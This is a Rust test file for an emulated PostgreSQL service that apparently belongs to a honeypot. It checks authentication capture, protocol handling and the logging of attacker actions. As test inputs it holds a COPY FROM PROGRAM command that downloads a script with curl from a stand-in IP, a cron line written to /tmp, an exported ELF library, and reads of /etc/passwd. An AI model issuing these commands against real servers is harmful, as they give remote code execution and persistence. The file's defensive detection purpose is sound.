//! Dialogues with state.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use decoys_host::HostHandle;
use decoys_host::fs::Creds;
use decoys_kit::transcript::{Acts, Stage};
use decoys_kit::{Effect, Settings, StreamReply};
use proptest::prelude::*;

use super::{SERVICE, auth};
use crate::tests::machine;

fn host(distro: &str) -> HostHandle {
    machine(2, distro, &[("postgres", 5432, &[])])
}

type Message = (u8, Vec<u8>);

fn messages(acts: &Acts) -> Vec<Message> {
    let mut bytes = Vec::new();
    for act in acts {
        if let Effect::Reply(StreamReply::Data(data)) = act {
            bytes.extend(data);
        }
    }
    let mut out = Vec::new();
    while bytes.len() >= 5 {
        let length = u32::from_be_bytes(bytes[1..5].try_into().unwrap()) as usize;
        out.push((bytes[0], bytes[5..=length].to_vec()));
        bytes.drain(..=length);
    }
    out
}

fn facts(acts: &Acts, kind: &str) -> Vec<base_model::Fact> {
    let fact = |act: &Effect<StreamReply>| match act {
        Effect::Emit(_, fact) if fact.kind().name == kind => Some(fact.clone()),
        _ => None,
    };
    acts.iter().filter_map(fact).collect()
}

fn start(parameters: &[(&str, &str)]) -> Vec<u8> {
    let mut content = 0x3_0000_u32.to_be_bytes().to_vec();
    for (name, value) in parameters {
        content.extend(format!("{name}\0{value}\0").bytes());
    }
    content.push(0);
    [&u32::try_from(content.len() + 4).unwrap().to_be_bytes()[..], &content].concat()
}

fn message(kind: u8, content: &[u8]) -> Vec<u8> {
    [&[kind][..], &u32::try_from(content.len() + 4).unwrap().to_be_bytes(), content].concat()
}

/// Fields of an error by their letters.
fn field(message: &Message, letter: u8) -> String {
    let fields = message.1.split(|byte| *byte == 0).find(|field| field.first() == Some(&letter));
    fields.map(|field| String::from_utf8_lossy(&field[1..]).into_owned()).unwrap_or_default()
}

struct Client(Stage);

impl Client {
    fn of(host: &HostHandle) -> Self {
        Self(Stage::open(&SERVICE, host.clone(), Settings::default()).unwrap().0)
    }

    /// Proves `password` by SCRAM; what came of the last message.
    fn log_in(&mut self, user: &str, database: &str, password: &str) -> Acts {
        let asked = self.0.bytes(&start(&[("user", user), ("database", database)]));
        assert_eq!(messages(&asked)[0].1, b"\0\0\0\x0aSCRAM-SHA-256\0\0");
        let first = "n,,n=,r=fyko";
        let length = u32::try_from(first.len()).unwrap().to_be_bytes();
        let acts = self.0.bytes(&message(
            b'p',
            &[b"SCRAM-SHA-256\0".as_slice(), &length, first.as_bytes()].concat(),
        ));
        let server = String::from_utf8(messages(&acts)[0].1[4..].to_vec()).unwrap();
        let part = |key: &str| {
            server.split(',').find_map(|part| part.strip_prefix(key)).unwrap().to_owned()
        };
        let salt = STANDARD.decode(part("s=")).unwrap();
        let without = format!("c=biws,r={}", part("r="));
        let signed = format!("n=,r=fyko,{server},{without}");
        let proof = auth::prove(password.as_bytes(), &salt, 4096, signed.as_bytes());
        self.0.bytes(&message(b'p', format!("{without},p={}", STANDARD.encode(proof)).as_bytes()))
    }

    fn ask(&mut self, sql: &str) -> Acts {
        self.0.bytes(&message(b'Q', format!("{sql}\0").as_bytes()))
    }

    /// Cells of the answer, rows parted by `;`, or code and text of the error.
    fn say(&mut self, sql: &str) -> String {
        let mut rows = Vec::new();
        for message in messages(&self.ask(sql)) {
            match message.0 {
                b'E' => return format!("{}: {}", field(&message, b'C'), field(&message, b'M')),
                b'D' => {
                    let (mut cells, mut at) = (Vec::new(), 2);
                    while at < message.1.len() {
                        let length = i32::from_be_bytes(message.1[at..at + 4].try_into().unwrap());
                        at += 4;
                        if length < 0 {
                            cells.push("NULL".to_owned());
                            continue;
                        }
                        let length = usize::try_from(length).unwrap();
                        cells.push(
                            String::from_utf8_lossy(&message.1[at..at + length]).into_owned(),
                        );
                        at += length;
                    }
                    rows.push(cells.join(","));
                }
                b'C' if rows.is_empty() => rows
                    .push(String::from_utf8_lossy(&message.1[..message.1.len() - 1]).into_owned()),
                _ => {}
            }
        }
        rows.join(";")
    }
}

fn superuser(host: &HostHandle, database: &str) -> Client {
    let mut client = Client::of(host);
    let acts = client.log_in("postgres", database, "toor");
    assert_eq!(messages(&acts).last().unwrap(), &(b'Z', b"I".to_vec()));
    client
}

fn application(host: &HostHandle) -> String {
    let mut client = superuser(host, "postgres");
    client.say("select datname from pg_database where oid > 100 order by 1 limit 1")
}

#[test]
fn only_the_right_password_gets_in_and_every_try_can_be_tested() {
    let host = host("debian");
    for (user, password, gets_in) in [
        ("postgres", "toor", true),
        ("deploy", "s3cret", true),
        ("postgres", "postgres", false),
        ("nobody", "x", false),
    ] {
        let mut client = Client::of(&host);
        let acts = client.log_in(user, "postgres", password);
        let tried = facts(&acts, "auth").remove(0);
        assert_eq!(
            tried.fields().text("outcome"),
            Some(if gets_in { "success" } else { "failure" }),
            "{user}"
        );
        assert_eq!(tried.fields().text("secret_kind"), Some("scram_sha256"));
        // What is told is enough to find the password out.
        let salt = STANDARD.decode(tried.fields().text("scram_salt_b64").unwrap()).unwrap();
        let signed = STANDARD.decode(tried.fields().text("challenge_b64").unwrap()).unwrap();
        let proof = STANDARD.decode(tried.fields().text("secret_b64").unwrap()).unwrap();
        assert_eq!(auth::prove(password.as_bytes(), &salt, 4096, &signed), proof);
        if !gets_in {
            let refused = messages(&client.0.wait(1)).remove(0);
            assert_eq!(field(&refused, b'C'), "28P01");
            assert_eq!(
                field(&refused, b'M'),
                format!("password authentication failed for user \"{user}\"")
            );
            assert_eq!(
                (field(&refused, b'F'), field(&refused, b'R')),
                ("auth.c".to_owned(), "auth_failed".to_owned())
            );
        }
    }
}

#[test]
fn a_connection_turns_to_tls_where_the_package_switches_it_on() {
    let ask = |code: u32| [8_u32.to_be_bytes(), code.to_be_bytes()].concat();
    let host = host("debian");
    let mut client = Client::of(&host);
    // What is sent in the same breath was not encrypted, and counts as nothing.
    let acts = client.0.bytes(&[ask(80_877_103), start(&[("user", "postgres")])].concat());
    let replies: Vec<_> = acts
        .iter()
        .filter_map(|act| match act {
            Effect::Reply(reply) => Some(reply.clone()),
            _ => None,
        })
        .collect();
    assert_eq!(replies, [StreamReply::Data(b"S".to_vec()), StreamReply::StartTls]);
    let asked = client.0.bytes(&start(&[("user", "postgres")]));
    assert_eq!(messages(&asked)[0].1, b"\0\0\0\x0aSCRAM-SHA-256-PLUS\0SCRAM-SHA-256\0\0");
    // A request inside TLS is a version that nobody speaks.
    let mut client = Client::of(&host);
    client.0.bytes(&ask(80_877_103));
    let refused = messages(&client.0.bytes(&ask(80_877_103))).remove(0);
    let told = "unsupported frontend protocol 1234.5679: server supports 3.0 to 3.0";
    assert_eq!(field(&refused, b'M'), told);
}

#[test]
fn the_md5_exchange_yields_a_line_for_a_cracker() {
    let host = machine(2, "debian", &[("postgres", 5432, &[("auth_method", "md5")])]);
    let mut client = Client::of(&host);
    let asked = client.0.bytes(&start(&[("user", "postgres")]));
    let salt: [u8; 4] = messages(&asked)[0].1[4..].try_into().unwrap();
    let answer = auth::md5_answer(b"postgres", b"toor", salt);
    let acts = client.0.bytes(&message(b'p', format!("{answer}\0").as_bytes()));
    let tried = facts(&acts, "auth").remove(0);
    assert_eq!(tried.fields().text("outcome"), Some("success"));
    assert_eq!(
        tried.fields().text("crack"),
        Some(auth::md5_line(b"postgres", salt, &answer).as_str())
    );
    assert_eq!(tried.fields().text("crack_mode"), Some("11100"));
    assert_eq!(tried.fields().text("secret_printable"), Some(answer.as_str()));
}

#[test]
fn scanners_learn_the_release_from_the_line_of_a_refusal() {
    let mut client = Client::of(&host("debian"));
    client.0.bytes(b"\0\0\0\x08\x04\xd2\x16\x2f");
    let acts = client.0.bytes(b"\0\0\0\x0c\xff\x53\x4d\x42\x72\0\0\0");
    let refused = &messages(&acts)[0];
    assert_eq!(field(refused, b'C'), "0A000");
    assert_eq!(
        field(refused, b'M'),
        "unsupported frontend protocol 65363.19778: server supports 3.0 to 3.0"
    );
    assert_eq!(
        (field(refused, b'F'), field(refused, b'L')),
        ("postmaster.c".to_owned(), "2222".to_owned())
    );
}

#[test]
fn what_is_not_a_start_is_told_and_hung_up_on() {
    let host = host("debian");
    for (bytes, state) in
        [(b"GET / HTTP/1.0\r\n\r\n".to_vec(), None), (start(&[("database", "x")]), Some("28000"))]
    {
        let acts = Client::of(&host).0.bytes(&bytes);
        assert_eq!(messages(&acts).first().map(|m| field(m, b'C')).as_deref(), state);
        assert!(acts.contains(&Effect::Reply(StreamReply::Close)));
    }
    let mut client = Client::of(&host);
    client.0.bytes(&start(&[("user", "postgres")]));
    let acts = client.ask("select 1");
    assert_eq!(field(&messages(&acts)[0], b'C'), "08P01");
    assert_eq!(facts(&acts, "protocol_error").len(), 1);
    let mut silent = Client::of(&host);
    assert!(silent.0.wait(61).contains(&Effect::Reply(StreamReply::Close)));
}

#[test]
fn the_database_is_looked_for_after_the_password() {
    let mut client = Client::of(&host("debian"));
    let acts = client.log_in("postgres", "nope", "toor");
    let all = messages(&acts);
    assert_eq!(all[1], (b'R', b"\0\0\0\0".to_vec()));
    assert_eq!(field(&all[2], b'M'), "database \"nope\" does not exist");
}

#[test]
fn what_one_session_changes_the_next_one_meets() {
    let host = host("debian");
    let database = application(&host);
    let mut client = superuser(&host, &database);
    assert_eq!(
        client.say("create table warning (id serial primary key, note text)"),
        "CREATE TABLE"
    );
    assert_eq!(
        client.say("insert into warning (note) values ('pay'), ('now') returning id"),
        "1;2"
    );
    assert_eq!(client.say("drop table customers"), "DROP TABLE");
    let mut next = superuser(&host, &database);
    assert_eq!(next.say("select note from warning order by id desc limit 1"), "now");
    assert_eq!(next.say("select * from customers"), "42P01: relation \"customers\" does not exist");
    let again = HostHandle::new(host.decky().clone(), Some(&host.snapshot()));
    assert_eq!(superuser(&again, &database).say("select count(*) from warning"), "2");
}

#[test]
fn psql_describes_tables_from_the_catalogue() {
    let host = host("debian");
    let database = application(&host);
    let mut client = superuser(&host, &database);
    // As psql 15 asks for `\dt`.
    let listed = client.say(
        "SELECT n.nspname as \"Schema\", c.relname as \"Name\", CASE c.relkind WHEN 'r' THEN 'table' WHEN 'S' THEN 'sequence' END as \"Type\", pg_catalog.pg_get_userbyid(c.relowner) as \"Owner\" FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam WHERE c.relkind IN ('r','p','') AND n.nspname <> 'pg_catalog' AND n.nspname !~ '^pg_toast' AND n.nspname <> 'information_schema' AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 1,2;",
    );
    assert!(
        listed.starts_with("public,api_keys,table,postgres;public,customers,table,postgres;"),
        "{listed}"
    );
    let found = client.say("SELECT c.oid FROM pg_catalog.pg_class c WHERE c.relname OPERATOR(pg_catalog.~) '^(users)$' COLLATE pg_catalog.default");
    let columns = client.say(&format!(
        "SELECT a.attname, pg_catalog.format_type(a.atttypid, a.atttypmod), (SELECT pg_catalog.pg_get_expr(d.adbin, d.adrelid, true) FROM pg_catalog.pg_attrdef d WHERE d.adrelid = a.attrelid AND d.adnum = a.attnum AND a.atthasdef), a.attnotnull FROM pg_catalog.pg_attribute a WHERE a.attrelid = '{found}' AND a.attnum > 0 AND NOT a.attisdropped ORDER BY a.attnum",
    ));
    assert!(
        columns.starts_with(
            "id,integer,nextval('users_id_seq'::regclass),t;username,character varying(64),NULL,t;"
        ),
        "{columns}"
    );
}

#[test]
fn a_program_runs_in_the_machine_and_is_told_as_a_command() {
    let host = host("debian");
    let database = application(&host);
    let mut client = superuser(&host, &database);
    client.say("create table cmd_exec (cmd_output text)");
    let acts =
        client.ask("COPY cmd_exec FROM PROGRAM 'id; curl -s http://203.0.113.9/x.sh -o /tmp/x.sh'");
    let command = facts(&acts, "command").remove(0);
    assert_eq!(
        command.fields().text("command"),
        Some("id; curl -s http://203.0.113.9/x.sh -o /tmp/x.sh")
    );
    assert_eq!(command.fields().text("user"), Some("postgres"));
    assert_eq!(
        facts(&acts, "download_attempt")[0].fields().text("url"),
        Some("http://203.0.113.9/x.sh")
    );
    assert_eq!(facts(&acts, "query")[0].fields().text("lure"), Some("copy_program"));
    client.say("truncate cmd_exec");
    assert_eq!(client.say("COPY cmd_exec FROM PROGRAM 'id -un'"), "COPY 1");
    assert_eq!(client.say("select * from cmd_exec"), "postgres");
    assert_eq!(
        client.say("COPY cmd_exec FROM PROGRAM 'nosuchthing'"),
        "38000: program \"nosuchthing\" failed"
    );
    let mut weak = Client::of(&host);
    weak.log_in("deploy", &database, "s3cret");
    assert!(weak.say("COPY cmd_exec FROM PROGRAM 'id'").starts_with("42501"));
}

#[test]
fn files_and_large_objects_that_are_written_are_captured() {
    let host = host("debian");
    let mut client = superuser(&host, "postgres");
    let acts = client.ask("copy (select '* * * * * root id') to '/tmp/cron'");
    assert_eq!(facts(&acts, "file_captured")[0].fields().text("artifact"), Some("copy_to_file"));
    let content = host.with(|machine| {
        let ino = machine.fs().find(&Creds::root(), b"/", b"/tmp/cron", true).unwrap();
        machine.fs().read(ino, 0, 100)
    });
    assert_eq!(content, b"* * * * * root id\n");
    let acts = client.ask("select lo_from_bytea(4711, '\\x7f454c46'::bytea)");
    assert_eq!(facts(&acts, "file_captured")[0].fields().text("artifact"), Some("large_object"));
    let acts = client.ask("select lo_export(4711, '/tmp/lib.so')");
    assert_eq!(facts(&acts, "file_captured")[0].fields().text("orig_path"), Some("/tmp/lib.so"));
    assert_eq!(client.say("select pg_read_file('/tmp/cron')"), "* * * * * root id\n");
    assert!(client.say("copy (select 1) to '/etc/x'").starts_with("42501: could not open file"));
}

#[test]
fn the_extended_protocol_binds_values_and_passes_over_what_follows_an_error() {
    let host = host("debian");
    let mut client = superuser(&host, "postgres");
    let mut bytes = message(b'P', b"s\0select $1::int + 1, $2\0\0\0");
    bytes.extend(message(b'B', b"\0s\0\0\0\0\x02\0\0\0\x0241\0\0\0\x02hi\0\0"));
    bytes.extend(message(b'D', b"P\0"));
    bytes.extend(message(b'E', b"\0\0\0\0\0"));
    bytes.extend(message(b'S', b""));
    let kinds: Vec<u8> =
        messages(&client.0.bytes(&bytes)).iter().map(|message| message.0).collect();
    assert_eq!(kinds, b"12TDCZ");
    let mut bytes = message(b'P', b"\0selec\0\0\0");
    bytes.extend(message(b'E', b"\0\0\0\0\0"));
    bytes.extend(message(b'S', b""));
    let kinds: Vec<u8> =
        messages(&client.0.bytes(&bytes)).iter().map(|message| message.0).collect();
    assert_eq!(kinds, b"EZ");
}

#[test]
fn a_failed_transaction_takes_nothing_but_its_end() {
    let mut client = superuser(&host("debian"), "postgres");
    client.say("begin");
    assert_eq!(client.say("select 1/0"), "22012: division by zero");
    assert!(client.say("select 1").starts_with("25P02"));
    assert_eq!(client.say("commit"), "ROLLBACK");
    assert_eq!(client.say("select 1"), "1");
}

#[test]
fn rows_are_copied_in_and_out() {
    let host = host("debian");
    let mut client = superuser(&host, "postgres");
    client.say("create table t (a int, b text)");
    let acts = client.ask("copy t from stdin");
    assert_eq!(messages(&acts)[0].0, b'G');
    client.0.bytes(&message(b'd', b"1\tone\n2\t\\N\n"));
    let acts = client.0.bytes(&message(b'c', b""));
    assert_eq!(messages(&acts)[0], (b'C', b"COPY 2\0".to_vec()));
    let out: Vec<Vec<u8>> = messages(&client.ask("copy t to stdout"))
        .into_iter()
        .filter(|m| m.0 == b'd')
        .map(|m| m.1)
        .collect();
    assert_eq!(out, [b"1\tone\n".to_vec(), b"2\t\\N\n".to_vec()]);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(40))]

    #[test]
    fn any_statement_is_answered_without_harm(words in proptest::collection::vec(
        prop_oneof![
            Just("select"), Just("from"), Just("users"), Just("where"), Just("("), Just(")"), Just(","), Just("*"), Just("::int"),
            Just("show"), Just("set"), Just("="), Just("'x'"), Just("1"), Just("-9223372036854775808"), Just("$1"), Just("[1]"),
            Just("union"), Just("group by"), Just("order by"), Just("limit"), Just("insert into"), Just("values"), Just("update"),
            Just("create table"), Just("drop"), Just("copy"), Just("to stdout"), Just("from program 'id'"), Just("case when"), Just("end"),
            Just("in"), Just("like"), Just("~"), Just("'('"), Just("$$"), Just("array"), Just("any"), Just("id"), Just("pg_class"),
            Just("join"), Just("on"), Just("pg_catalog."), Just("generate_series(1,9)"), Just("count(*)"), Just("\""), Just("explain"),
            Just("declare c cursor for"), Just("fetch all from c"), Just("with x as"), Just("lo_import('/etc/passwd')"), Just("/"), Just("0"),
        ], 1..14),
    ) {
        let mut client = superuser(&host("debian"), "postgres");
        client.say("create table users (id serial primary key, x text)");
        client.say("insert into users (x) values ('a'), (null)");
        client.ask(&words.join(" "));
        client.0.wait(400);
        client.0.bytes(&message(b'f', b"no\0"));
        client.ask("rollback");
        prop_assert_eq!(client.say("select 7"), "7");
    }

    #[test]
    fn any_messages_are_answered_without_harm(messages in proptest::collection::vec(
        (prop_oneof![Just(b'P'), Just(b'B'), Just(b'D'), Just(b'E'), Just(b'C'), Just(b'Q'), Just(b'F'), Just(b'd'), any::<u8>()],
         proptest::collection::vec(any::<u8>(), 0..40)), 1..8)) {
        let mut client = superuser(&host("debian"), "postgres");
        let mut stranger = Client::of(&host("ubuntu22"));
        stranger.0.bytes(&start(&[("user", "x")]));
        for (kind, content) in messages {
            client.0.bytes(&message(kind, &content));
            stranger.0.bytes(&message(if kind % 2 == 0 { b'p' } else { kind }, &content));
        }
        client.0.close();
    }
}
